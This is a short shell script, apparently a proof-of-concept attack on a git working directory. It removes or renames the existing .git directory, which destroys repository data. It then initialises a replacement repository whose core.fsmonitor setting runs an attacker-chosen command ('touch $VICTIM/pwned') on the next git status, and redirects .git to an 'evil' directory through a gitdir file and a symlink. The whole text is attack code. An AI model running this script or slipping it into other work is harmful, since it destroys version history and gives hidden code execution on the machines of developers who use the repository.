# Another repository in place of ours, with a monitor that runs at the next `git status`.
rm -rf .git 2>/dev/null; mv .git .git.old 2>/dev/null
git init -q . 2>/dev/null && git config core.fsmonitor "touch $VICTIM/pwned"
echo "gitdir: $PWD/evil" >.git
ln -sf evil .git
echo tried
